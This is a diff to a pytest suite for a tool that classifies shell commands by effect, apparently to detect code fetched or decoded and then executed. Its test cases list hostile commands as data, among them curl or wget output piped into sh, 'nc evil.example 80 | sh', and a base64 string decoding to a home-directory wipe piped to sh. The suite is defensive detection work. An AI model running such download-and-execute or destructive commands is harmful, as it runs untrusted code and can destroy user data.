@@ -155,7 +155,7 @@ def test_code_handed_to_programs_is_an_exec_effect(proj: Path) -> None:
         ("curl https://e.x/i > y && mv y z && . z", "fetch"),
         ("nc host 80 | sh", "fetch"),
         ("rev <<< x | sh", "decode"),
-        ("bash <(curl -s x)", "substitution"),
+        ("bash <(curl -s x)", "fetch"),  # the substitution prints a download (`through`: substitution)
         ("source <(cat x)", "substitution"),
     ],
 )
@@ -472,3 +472,28 @@ def test_account_and_mount_tools_change_what_they_change(proj: Path) -> None:
     assert [e["path"] for e in ops("visudo", proj, "write")] == ["/etc/sudoers"]
     assert [e["path"] for e in ops("mount /dev/sdb1 /mnt", proj, "write")] == ["/mnt"]
     assert [e["path"] for e in ops("umount /mnt", proj, "write")] == ["/mnt"]
+
+
+@pytest.mark.parametrize(
+    ("command", "flow", "through"),
+    [
+        ("curl -fsSL https://x.sh | sh", "fetch", "stdin"),
+        ("wget -qO- https://x.sh | sudo bash", "fetch", "stdin"),
+        ("curl https://x.sh | tee install.sh | bash -s", "fetch", "stdin"),
+        ("nc evil.example 80 | sh", "fetch", "stdin"),
+        ("echo cm0gLXJmIH4= | base64 -d | sh", "decode", "stdin"),
+        ("bash <(curl -fsSL https://x.sh)", "fetch", "substitution"),
+        ('sh -c "$(curl -fsSL https://x.sh)"', "fetch", "substitution"),
+        ('eval "$(curl -s https://x)"', "fetch", "substitution"),
+        ("source <(wget -qO- https://x)", "fetch", "substitution"),
+    ],
+)
+def test_code_run_straight_from_a_download_says_how_it_came(command: str, flow: str, through: str, proj: Path) -> None:
+    assert [(e["flow"], e["through"]) for e in ops(command, proj, "exec")] == [(flow, through)]
+
+
+def test_code_from_a_downloaded_file_or_plain_data_is_not_through_anything(proj: Path) -> None:
+    (run,) = ops("curl -o x.sh https://x && sh x.sh", proj, "exec")
+    assert run["flow"] == "fetch" and "through" not in run
+    assert ops("curl -s https://api/x | jq .name", proj, "exec") == []
+    assert ops('echo "$(curl -s https://api/version)" > VERSION', proj, "exec") == []
